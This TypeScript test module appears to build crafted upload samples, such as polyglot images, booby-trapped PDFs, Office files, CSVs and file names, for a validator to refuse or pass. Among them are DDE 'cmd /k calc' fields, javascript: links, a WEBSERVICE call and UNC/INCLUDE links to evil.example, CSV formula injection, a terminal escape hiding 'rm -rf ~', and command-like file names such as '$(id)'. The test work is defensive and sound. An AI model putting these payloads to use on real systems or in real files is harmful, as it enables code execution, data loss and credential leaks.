// Names of formats: chunks of PNG, boxes of AVIF, keys of PDF, parts of Office files.
// cspell:disable
import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { strToU8, unzipSync, Zip, ZipDeflate, zipSync, type Zippable } from 'fflate';
import sharp from 'sharp';
import {
  ascii,
  join,
  objects,
  openDocument,
  pass,
  pdf,
  refuse,
  script,
  sheet,
  webPage,
  withBlock,
  withText,
  word,
  wordFiles,
  words,
  type Upload,
} from './uploads.ts';

/** Uploads whose attack lies in how their container is built, or in a second file within the first. */
export async function makeInnerUploads(): Promise<Upload[]> {
  return [...(await pictures()), ...documents(), ...offices(), ...texts(), ...names()];
}

const archive = Buffer.from(zipSync({ 'x.html': strToU8(webPage) }));
const utf16 = (text: string) => join(Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le'));

/** A part of a WebP: its kind, its length, its content, filled up to an even length. */
function riffPart(kind: string, content: Uint8Array): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32LE(content.length);
  return join(kind, length, content, Buffer.alloc(content.length % 2));
}

/** A WebP with one more part at its end. */
function withPart(webp: Buffer, kind: string, content: Uint8Array): Buffer {
  const longer = join(webp, riffPart(kind, content));
  longer.writeUInt32LE(longer.length - 8, 4);
  return longer;
}

/** A box of an AVIF. */
function box(kind: string, content: Uint8Array): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(content.length + 8);
  return join(length, kind, content);
}

/** A list of as many tags as there can be, each of which says that it is as long as the list. */
function longTagList(): Buffer {
  const count = 0xff_ff;
  const list = Buffer.alloc(10 + count * 12);
  list.write('II*\0\x08', 'latin1');
  list.writeUInt16LE(count, 8);
  for (let at = 10; at < list.length; at += 12) {
    list.writeUInt16LE(1, at + 2);
    list.writeUInt32LE(list.length, at + 4);
  }
  return list;
}

async function pictures(): Promise<Upload[]> {
  const make = (background = '#456') => sharp({ create: { width: 8, height: 8, channels: 3, background } });
  const [png, jpeg, webp, avif] = await Promise.all([
    make().png().toBuffer(),
    make().jpeg().toBuffer(),
    make().webp().toBuffer(),
    make().avif().toBuffer(),
  ]);
  const place = { IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '7/1 15/1 0/1' } };
  const placed = await make().jpeg().withExif(place).toBuffer();
  const exifAt = placed.indexOf('Exif\0\0', 0, 'latin1');
  const exif = placed.subarray(exifAt + 6, exifAt + placed.readUInt16BE(exifAt - 2) - 2);
  const moving = await sharp([await make().png().toBuffer(), await make('#a00').png().toBuffer()], {
    join: { animated: true },
  })
    .webp({ delay: [100, 100], loop: 0 })
    .toBuffer();
  const lastChunk = png.length - 12;
  return [
    refuse('WebP that moves', 'foto/a.webp', moving),
    refuse('PNG that moves', 'foto/a.png', withText(png, 'acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))),
    refuse('picture that is an archive within a remark', 'foto/a.png', withText(png, 'tEXt', join('x\0', archive))),
    refuse(
      'picture that is an archive of longer numbers within a remark',
      'foto/a.png',
      withText(png, 'tEXt', join('x\0', withLongNumbers(archive))),
    ),
    refuse('photo with an archive behind it', 'foto/a.jpg', join(jpeg, archive)),
    refuse('photo with a page behind it', 'foto/a.jpg', join(jpeg, webPage)),
    refuse('photo with what was cut away behind it', 'foto/a.jpg', join(jpeg, jpeg.subarray(jpeg.length >> 1))),
    refuse('photo with a film behind it', 'foto/a.jpg', join(jpeg, box('ftyp', ascii('mp42isom')), box('mdat', exif))),
    refuse('photo that is a document within a remark', 'foto/a.jpg', withBlock(jpeg, pdf('<</Type/Catalog>>'))),
    pass(
      'photo with its preview behind it',
      'foto/pratinjau.jpg',
      join(withBlock(jpeg, 'MPF\0').fill(0xe2, 3, 4), jpeg),
    ),
    refuse(
      'photo with its place in the preview behind it',
      'foto/a.jpg',
      join(withBlock(jpeg, 'MPF\0').fill(0xe2, 3, 4), placed),
    ),
    ...(
      [
        ['photo of a telephone that writes its time behind it', withTrailer(jpeg, 'Image_UTC_Data1754012345678')],
        [
          'photo of a telephone with its preview and its time behind it',
          withTrailer(join(withBlock(jpeg, 'MPF\0').fill(0xe2, 3, 4), jpeg), 'Image_UTC_Data1754012345678'),
        ],
      ] as const
    ).map(([name, bytes], index) => pass(name, `foto/telepon-${String(index)}.jpg`, bytes)),
    ...Object.entries({
      'with a film': withTrailer(jpeg, join('MotionPhoto_Data', box('ftyp', ascii('mp42isom')))),
      'with a document': withTrailer(jpeg, join('Notes', pdf('<</Type/Catalog>>'))),
      'with an archive': withTrailer(jpeg, join('Notes', archive)),
      'with a second photo': withTrailer(jpeg, join('DualShot', jpeg)),
      'with its place': withTrailer(jpeg, join('Camera', exif)),
      'that lists less than is there': join(jpeg, 'leftover', withTrailer(jpeg, 'Image').subarray(jpeg.length)),
      'with a page and no list': join(jpeg, webPage, 'SEFT'),
    }).map(([how, bytes]) => refuse(`photo of a telephone ${how} behind it`, 'foto/a.jpg', bytes)),
    refuse(
      'photo with its place in a block of Photoshop',
      'foto/a.jpg',
      withBlock(jpeg, join('Photoshop 3.0\0', exif)),
    ),
    refuse(
      'picture with thousands of marks of a list of tags',
      'foto/a.png',
      withText(png, 'tEXt', join('x\0', 'II*\0\b\0\0\0'.repeat(3000))),
    ),
    pass(
      'picture with a long list of long tags',
      'foto/panjang.png',
      withText(png, 'tEXt', join('x\0', longTagList())),
    ),
    refuse('WebP with its place in a second part', 'foto/a.webp', withPart(webp, 'EXIF', exif)),
    refuse(
      'picture with its place behind its points',
      'foto/a.png',
      join(
        png.subarray(0, lastChunk),
        withText(png, 'eXIf', exif).subarray(33, 33 + 12 + exif.length),
        png.subarray(lastChunk),
      ),
    ),
    refuse('AVIF with its place', 'foto/a.avif', await make().avif().withExif(place).toBuffer()),
    refuse('AVIF with its place in a box of its own', 'foto/a.avif', join(avif, box('uuid', exif))),
    refuse('AVIF that is an archive within a box', 'foto/a.avif', join(avif, box('free', archive))),
    refuse(
      'AVIF of the kind of telephones',
      'foto/a.avif',
      Buffer.from(avif.toString('latin1').replaceAll('avif', 'heic'), 'latin1'),
    ),
    refuse('AVIF whose box is longer than the file', 'foto/a.avif', join(avif, Buffer.from([0, 0, 1, 0]), 'free')),
    refuse('WebP that says it is longer', 'foto/a.webp', withLength(webp, webp.length + 500)),
    refuse('photo of telephones named JPEG', 'foto/a.jpg', avif),
    pass(
      'picture with a remark that unpacks to 50 MB',
      'foto/isi.png',
      withText(png, 'zTXt', join('x\0\0', deflateSync(Buffer.alloc(50_000_000)))),
    ),
    pass('photo with colours of print', 'foto/cetak.jpg', await make().toColourspace('cmyk').jpeg().toBuffer()),
    pass('photo with a profile of its colours', 'foto/warna.jpg', await make().withIccProfile('p3').jpeg().toBuffer()),
  ];
}

/** A photo with what telephones of Samsung write behind it: parts, a list of them, and its length. */
function withTrailer(jpeg: Buffer, content: string | Uint8Array): Buffer {
  const part = join(Buffer.from([0, 0, 1, 0x0a, 14, 0, 0, 0]), content);
  const list = Buffer.alloc(24);
  list.write('SEFH', 'latin1');
  list.writeUInt32LE(107, 4);
  list.writeUInt32LE(1, 8);
  list.writeUInt16LE(0x0a_01, 14);
  list.writeUInt32LE(part.length, 16);
  list.writeUInt32LE(part.length, 20);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(list.length);
  return join(jpeg, part, list, length, 'SEFT');
}

function withLength(webp: Buffer, length: number): Buffer {
  const copy = Buffer.from(webp);
  copy.writeUInt32LE(length, 4);
  return copy;
}

function documents(): Upload[] {
  const link = (address: string | Uint8Array) =>
    pdf('<</Type/Catalog>>', join('<</Type/Annot/Subtype/Link/A<</S/URI/URI', address, '>>>>'));
  const good = pdf('<</Type/Catalog>>');
  return [
    refuse('document with an archive behind it', 'dokumen/a.pdf', join(good, archive)),
    refuse('document with a page behind its end', 'dokumen/a.pdf', join(good, webPage)),
    refuse(
      'document that is an archive within a stream',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', join('<</Length 1>>\nstream\n', archive, '\nendstream')),
    ),
    refuse('document with a link into the network of the office', 'dokumen/a.pdf', link('(\\\\\\\\evil.example\\\\x)')),
    refuse('document with a link to a host without a scheme', 'dokumen/a.pdf', link('(//evil.example/x)')),
    refuse(
      'document with a link that is a program, in digits of two bytes',
      'dokumen/a.pdf',
      link(join('<feff', Buffer.from(utf16('javascript:x').subarray(2)).swap16().toString('hex'), '>')),
    ),
    refuse('document that prints itself', 'dokumen/a.pdf', pdf('<</Type/Catalog/OpenAction<</S/Named/N/Print>>>>')),
    refuse(
      'document whose letters are a program',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', "<</Type/Font/Subtype/Type1/FontMatrix[0.1 0 0 0.1 0 (1\\); alert\\('x'\\))]>>"),
    ),
    refuse(
      'document whose packed letters are a program',
      'dokumen/a.pdf',
      pdf(
        '<</Type/Catalog>>',
        objects('/FlateDecode', deflateSync(ascii('5 0 <</Type/Font/FontMatrix [1 0 0 1 0 (0\\); alert\\(1\\))]>>'))),
      ),
    ),
    pass(
      'document with letters of a size',
      'dokumen/huruf.pdf',
      pdf('<</Type/Catalog>>', '<</Type/Font/Subtype/Type3/FontMatrix [.001 0 0 -1e-3 0 +0.0]>>'),
    ),
    refuse(
      'document that calls somebody up by a number with a nought',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog/OpenAction 02 0 R>>', '<</S/URI/URI(https://evil.example/)>>'),
    ),
    refuse(
      'document with a link that is a program by a number with a nought',
      'dokumen/a.pdf',
      join(
        '%PDF-1.7\n1 0 obj\n<</Type/Catalog/A<</S/URI/URI 7 0 R>>>>\nendobj\n0007 0 obj\n(javascript:alert\\(1\\))\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF\n',
      ),
    ),
    refuse(
      'document with a program in a packed object in five letters for four',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', objects('[/A85/Fl]', ascii('GhQY7~>'))),
    ),
    pass(
      'document with letters of a size in braces',
      'dokumen/kurawal.pdf',
      pdf('<</Type/Catalog>>', '<</Type/Font/FontMatrix {0.001 0 0 0.001 0 0} readonly def>>'),
    ),
    refuse(
      'document whose letters in braces are a program',
      'dokumen/a.pdf',
      pdf('<</Type/Catalog>>', '<</Type/Font/FontMatrix{0.1 0 0 0.1 0 (1\\); alert\\(1\\))}>>'),
    ),
    pass('document that a scanner ended as a text', 'dokumen/pindai.pdf', join(good, '\x1a')),
    pass('document that a scanner filled up', 'dokumen/penuh.pdf', join(good, '\x1a\r\n', Buffer.alloc(3000))),
    refuse('document with a page behind the sign of a scanner', 'dokumen/a.pdf', join(good, '\x1a', webPage)),
    pass('document with a link to a telephone', 'dokumen/telepon.pdf', link('(tel:+62 31 352 4001)')),
    refuse('document with a link that commands a telephone', 'dokumen/a.pdf', link('(tel:*21*1234#)')),
    pass('document with blanks behind its end', 'dokumen/akhir.pdf', join(good, '\r\n\0\0\n')),
    pass(
      'document with a second version',
      'dokumen/versi.pdf',
      join(good, '2 0 obj\n<</Type/Page>>\nendobj\ntrailer<</Root 1 0 R/Prev 9>>\n%%EOF\n'),
    ),
  ];
}

/** Turns over bytes of an archive at the first place of a mark. */
function change(bytes: Uint8Array, mark: string, at: number, ...values: number[]): Buffer {
  const copy = Buffer.from(bytes);
  const start = copy.indexOf(mark, 0, 'latin1') + at;
  values.forEach((value, index) => (copy[start + index] = value));
  return copy;
}

const LOCAL = 'PK\u0003\u0004';
const LISTED = 'PK\u0001\u0002';

/** An archive with one more part, which its list does not name. */
function withUnlisted(bytes: Uint8Array, name: string, content: Uint8Array): Buffer {
  const whole = Buffer.from(bytes);
  const other = Buffer.from(zipSync({ [name]: [content, { level: 0 }] }));
  const part = other.subarray(0, other.indexOf(LISTED, 0, 'latin1'));
  const list = whole.indexOf(LISTED, 0, 'latin1');
  const longer = join(whole.subarray(0, list), part, whole.subarray(list));
  longer.writeUInt32LE(list + part.length, longer.lastIndexOf('PK\u0005\u0006', undefined, 'latin1') + 16);
  return longer;
}

/** The same archive with its numbers where they may have more digits (ZIP64), as programs write it that do not know the lengths before. */
function withLongNumbers(bytes: Uint8Array, change: (added: Buffer) => Buffer = (added) => added): Buffer {
  const whole = Buffer.from(bytes);
  const end = whole.lastIndexOf('PK\u0005\u0006', undefined, 'latin1');
  const start = whole.readUInt32LE(end + 16);
  const rows: Uint8Array[] = [];
  for (let at = start; at < end;) {
    const nameEnd = at + 46 + whole.readUInt16LE(at + 28);
    const row = Buffer.from(whole.subarray(at, nameEnd));
    const added = change(
      join(Buffer.from([1, 0, 24, 0]), ...[24, 20, 42].map((offset) => toLong(row.readUInt32LE(offset)))),
    );
    for (const offset of [24, 20, 42]) row.writeUInt32LE(0xff_ff_ff_ff, offset);
    row.writeUInt16LE(added.length, 30);
    row.writeUInt16LE(0, 32);
    rows.push(row, added);
    at = nameEnd + whole.readUInt16LE(at + 30) + whole.readUInt16LE(at + 32);
  }
  const list = join(...rows);
  const count = toLong(whole.readUInt16LE(end + 10));
  const place = start + list.length;
  const version = Buffer.from([45, 0, 45, 0, 0, 0, 0, 0, 0, 0, 0, 0]);
  const longEnd = join('PK\u0006\u0006', toLong(44), version, count, count, toLong(list.length), toLong(start));
  const last = Buffer.from(whole.subarray(end));
  last.fill(0xff, 8, 20);
  return join(
    whole.subarray(0, start),
    list,
    longEnd,
    join('PK\u0006\u0007', Buffer.alloc(4), toLong(place), Buffer.from([1, 0, 0, 0])),
    last,
  );
}

/** The same parts as Apache POI streams a sheet: their lengths stand, in longer numbers, behind each of them. */
function streamLong(parts: Readonly<Record<string, Uint8Array>>): Buffer {
  const [pieces, rows]: [Buffer[], Buffer[]] = [[], []];
  let start = 0;
  for (const [name, content] of Object.entries(parts)) {
    const packed = deflateRawSync(content);
    const sum = Buffer.alloc(4);
    sum.writeUInt32LE(crc32(content));
    const head = (known: Uint8Array, added: Uint8Array) =>
      join(
        Buffer.from([45, 0, 8, 8, 8, 0, 0, 0, 33, 0]),
        known,
        Buffer.alloc(8, 0xff),
        toShort(name.length),
        toShort(added.length),
      );
    const [unknown, lengths] = [Buffer.from([1, 0, 16, 0]), join(toLong(content.length), toLong(packed.length))];
    const [none, place] = [join(unknown, Buffer.alloc(16)), Buffer.alloc(14)];
    place.writeUInt32LE(start, 10);
    rows.push(join(LISTED, Buffer.from([45, 0]), head(sum, join(unknown, lengths)), place, name, unknown, lengths));
    const repeated = join('PK\u0007\u0008', sum, toLong(packed.length), toLong(content.length));
    const piece = join(LOCAL, head(Buffer.alloc(4), none), name, none, packed, repeated);
    pieces.push(piece);
    start += piece.length;
  }
  const list = join(...rows);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(rows.length, 8);
  end.writeUInt16LE(rows.length, 10);
  end.writeUInt32LE(list.length, 12);
  end.writeUInt32LE(start, 16);
  return join(...pieces, list, end);
}

function toShort(number: number): Buffer {
  return Buffer.from([number & 0xff, number >> 8]);
}

function toLong(number: number): Buffer {
  const long = Buffer.alloc(8);
  long.writeBigUInt64LE(BigInt(number));
  return long;
}

const field = (text: string) =>
  word({ 'word/document.xml': words(`<w:p><w:r><w:instrText>${text}</w:instrText></w:r></w:p>`) });
const ddeXml = (encoding: string) =>
  `<?xml version="1.0" encoding="${encoding}"?><w:document xmlns:w="x"><w:instrText>DDEAUTO cmd "/k calc"</w:instrText></w:document>`;

function offices(): Upload[] {
  const asking = sheet({
    'xl/worksheets/sheet1.xml': strToU8('<worksheet><f>WEBSERVICE("https://evil.example/")</f></worksheet>'),
  });
  const cell = (text: string) =>
    sheet({ 'xl/worksheets/sheet1.xml': strToU8(`<worksheet><f>${text}</f></worksheet>`) });
  const text = (inner: string) =>
    openDocument('application/vnd.oasis.opendocument.text', {
      'content.xml': strToU8(`<office:document-content><office:body>${inner}</office:body></office:document-content>`),
    });
  const stored = zipSync(wordFiles(), { level: 0 });
  return [
    refuse(
      'letter with a sheet inside that asks a host',
      'dokumen/a.docx',
      word({ 'word/embeddings/sheet1.xlsx': asking }),
    ),
    refuse(
      'letter with a letter in a letter that starts a program',
      'dokumen/a.docx',
      word({
        'word/embeddings/a.xlsx': sheet({ 'xl/embeddings/b.xlsx': sheet({ 'xl/vbaProject.bin': Buffer.alloc(9) }) }),
      }),
    ),
    refuse(
      'letter with a sheet inside that is none',
      'dokumen/a.docx',
      word({ 'word/embeddings/sheet1.xlsx': join('MZ', Buffer.alloc(99)) }),
    ),
    pass('letter with a sheet inside', 'dokumen/tabel.docx', word({ 'word/embeddings/sheet1.xlsx': sheet() })),
    pass('sheet with longer numbers', 'dokumen/panjang.xlsx', withLongNumbers(sheet())),
    pass('sheet streamed with longer numbers', 'dokumen/mengalir.xlsx', streamLong(unzipSync(sheet()))),
    refuse('sheet streamed with longer numbers that asks a host', 'dokumen/a.xlsx', streamLong(unzipSync(asking))),
    refuse('archive streamed with longer numbers', 'dokumen/a.xlsx', streamLong({ 'x.txt': strToU8('x') })),
    refuse('sheet streamed with longer numbers that is a letter', 'dokumen/a.xlsx', streamLong(unzipSync(word()))),
    refuse('sheet with longer numbers that asks a host', 'dokumen/a.xlsx', withLongNumbers(asking)),
    refuse(
      'sheet with longer numbers that are missing',
      'dokumen/a.xlsx',
      withLongNumbers(sheet(), (added) => added.subarray(0, 0)),
    ),
    refuse(
      'sheet with longer numbers twice',
      'dokumen/a.xlsx',
      withLongNumbers(sheet(), (added) => join(added, added)),
    ),
    refuse(
      'sheet with longer numbers and bytes between',
      'dokumen/a.xlsx',
      change(withLongNumbers(sheet()), 'PK\u0006\u0006', 48, 1),
    ),
    refuse(
      'letter with a part that its list does not name',
      'dokumen/a.docx',
      withUnlisted(word(), 'word/vbaProject.bin', Buffer.alloc(64)),
    ),
    refuse('letter whose part has two names', 'dokumen/a.docx', change(stored, 'word/document.xml', 0, 0x57)),
    refuse('letter whose part has two ways of packing', 'dokumen/a.docx', change(stored, LOCAL, 8, 8)),
    refuse('letter with a part under a password', 'dokumen/a.docx', change(stored, LISTED, 8, 1)),
    refuse('letter with a part packed in an unknown way', 'dokumen/a.docx', change(stored, LISTED, 10, 93)),
    refuse(
      'letter of 100,000 levels',
      'dokumen/a.docx',
      word({ 'word/document.xml': strToU8(`${'<w>'.repeat(100_000)}${'</w>'.repeat(100_000)}`) }),
    ),
    refuse(
      'letter of two bytes a letter that starts a program, under another ending',
      'dokumen/a.docx',
      word({ 'word/document.dat': utf16(ddeXml('UTF-16')) }),
    ),
    refuse(
      'letter in letters of mail',
      'dokumen/a.docx',
      word({
        'word/document.xml': strToU8(
          '<?xml version="1.0" encoding="UTF-7"?><w:document xmlns:w="x">+ADw-w:instrText+AD4-DDEAUTO cmd+ADw-/w:instrText+AD4-</w:document>',
        ),
      }),
    ),
    refuse(
      'letter in letters of a mainframe',
      'dokumen/a.docx',
      word({ 'word/document.dat': Buffer.from([0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40, 0xa5, 0x6e]) }),
    ),
    refuse(
      'letter with a drawing that loads a style',
      'dokumen/a.docx',
      word({
        'word/media/image1.svg': strToU8(
          '<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://evil.example/x.css";</style></svg>',
        ),
      }),
    ),
    refuse(
      'letter with a drawing that fills with another',
      'dokumen/a.docx',
      word({
        'word/media/image1.svg': strToU8(
          '<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill:url(https://evil.example/x.svg#a)"/></svg>',
        ),
      }),
    ),
    refuse(
      'letter with a drawing that runs',
      'dokumen/a.docx',
      word({ 'word/media/image1.svg': strToU8(`<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>`) }),
    ),
    pass(
      'letter with a drawing',
      'dokumen/gambar-garis.docx',
      word({
        'word/media/image1.svg': strToU8(
          '<svg xmlns="http://www.w3.org/2000/svg"><style>.a{fill:url(#b)}</style><path class="a" fill="url(#c)" d="M0 0h9"/></svg>',
        ),
      }),
    ),
    refuse(
      'letter with a field that leads to a program',
      'dokumen/a.docx',
      field(' HYPERLINK "ms-msdt:/id PCWDiagnostic" '),
    ),
    refuse(
      'letter with a field that leads into the network of the office',
      'dokumen/a.docx',
      field(' HYPERLINK "\\\\\\\\evil.example\\\\x" '),
    ),
    refuse(
      'letter with a field that takes in a file by its old name',
      'dokumen/a.docx',
      field(' INCLUDE "https://evil.example/x.docx" '),
    ),
    pass(
      'letter with a field that leads to a page',
      'dokumen/laman.docx',
      field(' HYPERLINK "https://contoh.example/include" \\o "print" '),
    ),
    ...['tel:+62313524001', 'mailto:kantor@contoh.example'].map((address, index) =>
      pass(
        `letter with a field that leads to ${address.split(':', 1).join()}`,
        `dokumen/bidang-${String(index)}.docx`,
        field(` HYPERLINK "${address}" `),
      ),
    ),
    pass(
      'letter with a link to a telephone',
      'dokumen/telepon.docx',
      word({
        'word/_rels/document.xml.rels': strToU8(
          '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="tel:+62313524001" TargetMode="External"/></Relationships>',
        ),
      }),
    ),
    refuse('letter with a field that commands a telephone', 'dokumen/a.docx', field(' HYPERLINK "tel:*21*1234#" ')),
    ...['jfif', 'jpe', 'heic', 'pict'].map((ending) =>
      pass(
        `letter with a picture that ends in ${ending}`,
        `dokumen/gambar-${ending}.docx`,
        word({ [`word/media/image1.${ending}`]: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46]) }),
      ),
    ),
    pass(
      'letter with a picture named as for a while',
      'dokumen/gambar-sementara.docx',
      word({ 'word/media/image1.tmp': Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1]) }),
    ),
    refuse(
      'letter with a program named as for a while',
      'dokumen/a.docx',
      word({ 'word/media/image1.tmp': join('MZ', Buffer.alloc(99)) }),
    ),
    refuse(
      'sheet with a link that is a program',
      'dokumen/a.xlsx',
      cell('HYPERLINK("file:///c:/windows/system32/calc.exe","x")'),
    ),
    refuse(
      'sheet with a link into the network of the office',
      'dokumen/a.xlsx',
      cell('HYPERLINK("\\\\evil.example\\x","x")'),
    ),
    pass('sheet with a link', 'dokumen/tautan.xlsx', cell('HYPERLINK("https://contoh.example/"&amp;A1,"x")')),
    refuse(
      'OpenDocument with a script in its text',
      'dokumen/a.odt',
      text('<text:script script:language="JavaScript">x</text:script>'),
    ),
    refuse(
      'OpenDocument with a table that sends',
      'dokumen/a.odt',
      text('<form:form xlink:href="https://evil.example/"/>'),
    ),
    pass('letter that was written in one go', 'dokumen/langsung.docx', writeInOneGo(wordFiles())),
    refuse(
      'letter whose part is longer than its list says',
      'dokumen/a.docx',
      change(word({ 'word/document.xml': words() }), LISTED, 24, 40),
    ),
    refuse('letter with parts that lie over each other', 'dokumen/a.docx', overlapping()),
  ];
}

/** The same parts as a program writes them that does not know their lengths before. */
function writeInOneGo(parts: Zippable): Buffer {
  const pieces: Uint8Array[] = [];
  const zip = new Zip((_, piece) => pieces.push(piece));
  for (const [name, content] of Object.entries(parts)) {
    const part = new ZipDeflate(name);
    zip.add(part);
    part.push(content as Uint8Array, true);
  }
  zip.end();
  return join(...pieces);
}

/** An archive in which one packed part is listed 200 times, each time under another name. */
function overlapping(): Buffer {
  const packed = deflateRawSync(Buffer.alloc(400_000));
  const parts = Array.from({ length: 200 }, (_, index) => `word/media/${String(index).padStart(3, '0')}.png`);
  const base = Buffer.from(word());
  const [list, end] = [base.indexOf(LISTED, 0, 'latin1'), base.lastIndexOf('PK\u0005\u0006', undefined, 'latin1')];
  const head = (name: string) => {
    const fields = Buffer.alloc(26);
    fields.writeUInt16LE(20, 0);
    fields.writeUInt16LE(8, 4);
    fields.writeUInt32LE(packed.length, 14);
    fields.writeUInt32LE(400_000, 18);
    fields.writeUInt16LE(name.length, 22);
    return fields;
  };
  const rows = parts.map((name) => {
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(list, 10);
    return join(LISTED, Buffer.from([20, 0]), head(name), rest, name);
  });
  const local = join(LOCAL, head(parts[0] ?? ''), parts[0] ?? '', packed);
  const whole = join(base.subarray(0, list), local, base.subarray(list, end), ...rows);
  const last = Buffer.from(base.subarray(end));
  const count = last.readUInt16LE(10) + parts.length;
  last.writeUInt16LE(count, 8);
  last.writeUInt16LE(count, 10);
  last.writeUInt32LE(whole.length - list - local.length, 12);
  last.writeUInt32LE(list + local.length, 16);
  return join(whole, last);
}

function texts(): Upload[] {
  return [
    refuse('table that is one of an old program', 'dokumen/a.csv', 'ID;PWXL;N;E\nC;X1;Y1;K0;EEXEC("calc.exe")\nE\n'),
    refuse('table that chooses the end of its cells', 'dokumen/a.csv', "sep=|\na|=cmd\\'/C calc\\'!A0\n"),
    pass('table that names the end of its cells', 'dokumen/pisah.csv', 'sep=;\nnama;jumlah\nKota;-12,5\n'),
    pass('table with an element in a cell', 'dokumen/sel.csv', `nama,isi\nKota,${script}\n`),
    refuse('table that is one of a page', 'dokumen/a.csv', '<table><tr><td>=1+1</td></tr></table>'),
    refuse('text that begins with a picture', 'dokumen/a.txt', '<img src=x onerror=alert(1)>'),
    refuse('text that begins with an unknown element', 'dokumen/a.md', '<x-y onfocus=alert(1) autofocus tabindex=1>'),
    pass('text that begins with an address', 'dokumen/alamat.md', '<https://contoh.example/> Naskah.\n'),
    refuse('text that commands the terminal', 'dokumen/a.txt', 'Naskah \u001b]52;c;cm0gLXJmIH4=\u0007\u001b[2J\n'),
    refuse('text turned around', 'dokumen/a.txt', 'Naskah \u202egpj.exe\n'),
    pass('text over two pages', 'dokumen/dua.txt', 'Naskah\f\tkedua\r\n'),
  ];
}

function names(): Upload[] {
  const good = pdf('<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>');
  return [
    refuse('document with a part of its name turned', 'dokumen/naskah\u2067fdp\u2069.pdf', good),
    refuse('document with a soft hyphen in its name', 'dokumen/nas\u00adkah.pdf', good),
    refuse('document with a line separator in its name', 'dokumen/naskah\u2028x.pdf', good),
    refuse('document with a bell in its name', 'dokumen/naskah\u0007.pdf', good),
    refuse('document with tag letters in its name', 'dokumen/naskah\u{e0061}.pdf', good),
    refuse('document with a second stream in its name', 'dokumen/naskah.pdf:x.pdf', good),
    refuse('document named as an option', 'dokumen/-rf.pdf', good),
    refuse('document named as a command', 'dokumen/$(id).pdf', good),
    refuse('document in a folder of two dots', 'dokumen/../naskah.pdf', good),
  ];
}
